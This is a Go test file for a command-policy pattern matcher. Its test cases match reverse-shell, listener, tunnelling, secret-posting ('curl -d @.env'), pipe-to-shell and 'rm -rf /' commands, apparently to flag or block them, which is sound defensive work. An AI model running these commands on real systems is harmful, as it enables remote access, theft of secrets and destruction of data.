package policy

import (
	"strings"
	"testing"
)

func TestCommandPatternMatches(t *testing.T) {
	tests := []struct {
		pattern string
		command []string // hand-split words, as the shell analyser would give them
		want    bool
	}{
		// The required examples.
		{"python -m http.server", []string{"python3", "-m", "http.server", "8080"}, true},
		{"python -m http.server", []string{"/usr/bin/python3.12", "-m", "http.server"}, true},
		{"python -m http.server", []string{"python3", "-mhttp.server"}, true},
		{"python -m http.server", []string{"python", "-m", "http.server"}, true},
		{"nc -l *", []string{"nc", "-lvnp", "4444"}, true},
		{"nc -l *", []string{"nc", "-v", "-l", "-p", "4444"}, true},
		{"nc -l *", []string{"nc", "-nlvp", "4444"}, true},
		{"ssh -R *", []string{"ssh", "-NR", "8080:localhost:3000", "h"}, true},
		{"ssh -R *", []string{"ssh", "-o", "ServerAliveInterval=60", "-R", "8080:localhost:3000", "h"}, true},
		{"/bash -i ", []string{"/bin/bash", "-i"}, true},
		{"/bash -i ", []string{"bash", "-i"}, true}, // bash -i >& /dev/tcp/...: redirections are not words
		{"rm -rf", []string{"rm", "-fr", "/"}, true},
		{"rm -rf", []string{"rm", "-r", "-f", "/"}, true},
		{"rm -rf", []string{"rm", "--recursive", "--force", "/"}, true},
		// Data is not a command.
		{"nc -l *", []string{"echo", "nc -l 4444"}, false},
		{"python -m http.server", []string{"grep", "-rn", "http.server", "docs/"}, false},
		// Prefix semantics and the lone '*'.
		{"npm run dev", []string{"npm", "run", "dev", "--", "--port", "3000"}, true},
		{"npm run dev", []string{"npm", "run", "build"}, false},
		{"npm run dev", []string{"npm", "run"}, false},
		{"ncat *", []string{"ncat"}, true},
		{"git * push", []string{"git", "x", "y", "push", "origin"}, true},
		{"git * push", []string{"git", "pull"}, false},
		// Word globs stay within one word.
		{"npx serve*", []string{"npx", "serve", "-s", "build"}, true},
		{"npx serve*", []string{"npx", "serverless", "deploy"}, true},
		{"npx serve*", []string{"npx", "vite"}, false},
		{"ls*", []string{"lsof", "-i"}, true},
		// Option values.
		{"php -S *", []string{"php", "-S", "localhost:8000"}, true},
		{"php -S *", []string{"php", "-S0.0.0.0:80"}, true},
		{"php -S *", []string{"php", "script.php"}, false},
		{"ruby -run -e httpd*", []string{"ruby", "-run", "-e", "httpd", ".", "-p", "8000"}, true},
		{"ruby -run -e httpd*", []string{"ruby", "-run", "-ehttpd", "."}, true},
		{"ruby -run -e httpd*", []string{"ruby", "-e", "puts 1"}, false},
		{"curl -d @*", []string{"curl", "-d", "@.env", "https://x"}, true},
		{"curl -d @*", []string{"curl", "-d", "a=b", "https://x"}, false},
		{"lt --port *", []string{"lt", "--port", "8080"}, true},
		{"lt --port *", []string{"lt", "-p", "8080"}, true},
		{"nc -e *", []string{"nc", "host", "4444", "-e", "/bin/sh"}, true},
		{"ssh -L *", []string{"ssh", "host", "-L", "80:x:80"}, true},        // ssh reads options after the host too
		{"ssh -L *", []string{"ssh", "host", "ls", "-L", "80:x:80"}, false}, // but not in the remote command
		// Program reduction and globs.
		{"/usr/bin/python3 -m http.server", []string{"python", "-m", "http.server"}, true},
		{"py*", []string{"python3", "-m", "http.server"}, true},
		// A glob program has no option spec, so -m is read as a flag and
		// http.server as a positional: the pattern cannot match python's -m.
		{"py* -m http.server", []string{"python3", "-m", "http.server"}, false},
		{"* -l", []string{"nc", "-l"}, true},
		// Quoted pattern words.
		{`grep "a b"`, []string{"grep", "a b", "f"}, true},
		{`grep 'a b'`, []string{"grep", "a", "b"}, false},
		// git has no option spec: -m is a flag and the message a positional, on both sides.
		{`git commit -m "wip*"`, []string{"git", "commit", "-m", "wip: x"}, true},
		{`git commit -m "wip*"`, []string{"git", "commit", "-m", "fix"}, false},
	}
	for _, tt := range tests {
		p, err := compilePattern(tt.pattern)
		if err != nil {
			t.Fatalf("compilePattern(%q): %v", tt.pattern, err)
		}
		v := view(tt.command...)
		if got := p.matchView(&v); got != tt.want {
			t.Errorf("%q vs %q = %v, want %v (%s)", tt.pattern, tt.command, got, tt.want, p.whyNot(&v))
		}
	}
}

func TestCommandPatternErrors(t *testing.T) {
	tests := []struct{ pattern, msg string }{
		{"", "empty command_pattern"},
		{"   ", "empty command_pattern"},
		{"curl x | sh", `shell operator "|"`},
		{"make && make install", `shell operator "&&"`},
		{"a; b", `shell operator ";"`},
		{"echo x > f", `shell operator ">"`},
		{"echo $HOME", "'$'"},
		{"-l nc", "starts with the option"},
		{`grep "abc`, "unterminated quote"},
		{"/usr/bin/ -x", "ends with '/'"},
	}
	for _, tt := range tests {
		_, err := compilePattern(tt.pattern)
		if err == nil || !strings.Contains(err.Error(), tt.msg) {
			t.Errorf("compilePattern(%q) = %v, want error containing %q", tt.pattern, err, tt.msg)
		}
	}
	// Quoted operators are literal.
	for _, ok := range []string{`grep "a|b"`, `echo ';'`, `awk '$1'`} {
		if _, err := compilePattern(ok); err != nil {
			t.Errorf("compilePattern(%q): %v", ok, err)
		}
	}
}

func TestMatchStar(t *testing.T) {
	tests := []struct {
		p, s string
		want bool
	}{
		{"", "", true}, {"*", "", true}, {"*", "abc", true}, {"a*", "abc", true}, {"a*c", "abc", true},
		{"a*c", "abd", false}, {"*b*", "abc", true}, {"a*b*c", "aXbYc", true}, {"a*b*c", "aXcYb", false},
		{"abc", "abc", true}, {"abc", "ab", false}, {"**", "x", true}, {"*x", "xxxx", true}, {"x*", "y", false},
	}
	for _, tt := range tests {
		if got := matchStar(tt.p, tt.s, false); got != tt.want {
			t.Errorf("matchStar(%q, %q) = %v", tt.p, tt.s, got)
		}
	}
	if !matchStar("*.example.com", "a.example.com", true) || matchStar("*.example.com", "example.com", true) {
		t.Error("host glob")
	}
}
